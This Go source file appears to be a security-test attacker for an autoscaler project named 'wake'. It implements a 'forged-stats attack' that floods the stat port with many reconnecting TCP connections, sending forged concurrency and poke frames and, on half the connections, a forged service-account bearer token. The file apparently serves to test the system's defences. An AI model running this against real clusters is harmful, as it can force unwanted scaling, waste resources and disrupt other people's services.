package main

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"sync"
	"time"

	"github.com/wakefn/wake/internal/poll"
	"github.com/wakefn/wake/internal/statwire"
)

// statsPlan is the forged-stats attack.
type statsPlan struct {
	// addr is the stat port's host:port.
	addr      string
	namespace string
	revision  string
	// conns is the number of connections to each resolved address.
	conns    int
	interval time.Duration
	// concurrency is claimed for the revision in every frame.
	concurrency float64
}

// statsCounts is what the forged-stats attack achieved.
type statsCounts struct {
	// Addresses is how many addresses the stat host resolved to.
	Addresses counter `json:"addresses"`
	Dials     counter `json:"dials"`
	DialFails tally   `json:"dialFails"`
	// Frames were written in full (the server never answers, so written
	// is all a client can know).
	Frames counter `json:"frames"`
	// Pokes counts written frames that were pokes.
	Pokes counter `json:"pokes"`
	// Cut counts connections that a write found closed.
	Cut tally `json:"cut"`
}

// forgeStats keeps plan.conns connections open to every address of the stat
// host and writes a forged frame on each every plan.interval, until ctx
// ends. Half the connections first send a forged bearer token line. A
// connection that is cut is dialled again after a pause.
func forgeStats(ctx context.Context, plan statsPlan, c *statsCounts) {
	host, port, err := net.SplitHostPort(plan.addr)
	if err != nil {
		c.DialFails.add("bad-address")
		return
	}
	lctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	ips, err := net.DefaultResolver.LookupHost(lctx, host)
	cancel()
	if err != nil {
		c.DialFails.add("resolve")
		fmt.Printf("attacker: resolve %s: %v\n", host, err)
		return
	}
	c.Addresses.Store(int64(len(ips)))
	var wg sync.WaitGroup
	for _, ip := range ips {
		for i := range plan.conns {
			wg.Add(1)
			go func() {
				defer wg.Done()
				forgeOn(ctx, net.JoinHostPort(ip, port), i, plan, c)
			}()
		}
	}
	wg.Wait()
}

// forgeOn is one forging connection, redialled when cut.
func forgeOn(ctx context.Context, addr string, id int, plan statsPlan, c *statsCounts) {
	src := fmt.Sprintf("wake-activator-forged-%d", id)
	d := net.Dialer{Timeout: 2 * time.Second}
	for ctx.Err() == nil {
		c.Dials.Add(1)
		conn, err := d.DialContext(ctx, "tcp", addr)
		if err != nil {
			if ctx.Err() == nil {
				c.DialFails.add(errKind(err))
			}
			poll.Sleep(ctx, 200*time.Millisecond)
			continue
		}
		err = forgeFrames(ctx, conn, id%2 == 1, src, plan, c)
		_ = conn.Close()
		if err != nil && ctx.Err() == nil {
			c.Cut.add(errKind(err))
			poll.Sleep(ctx, 200*time.Millisecond)
		}
	}
}

// forgeFrames writes frames on conn until ctx ends or a write fails,
// alternating poke frames and snapshot frames.
func forgeFrames(ctx context.Context, conn net.Conn, forgeToken bool, src string, plan statsPlan, c *statsCounts) error {
	w := bufio.NewWriter(conn)
	if forgeToken {
		_ = conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
		if _, err := w.WriteString("Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6d2FrZS1zeXN0ZW06d2FrZS1hY3RpdmF0b3IifQ.Zm9yZ2Vk\n"); err != nil {
			return err
		}
	}
	tick := time.NewTicker(plan.interval)
	defer tick.Stop()
	for n := 0; ; n++ {
		poke := n%2 == 0
		f := statwire.Frame{Source: src, Timestamp: time.Now().UnixMilli(), Stats: []statwire.Stat{{
			Namespace: plan.namespace, Revision: plan.revision,
			AverageConcurrency: plan.concurrency, RequestCount: plan.concurrency, Poke: poke,
		}}}
		_ = conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
		if err := statwire.Write(w, f); err != nil {
			return err
		}
		if err := w.Flush(); err != nil {
			return err
		}
		c.Frames.Add(1)
		if poke {
			c.Pokes.Add(1)
		}
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
	}
}
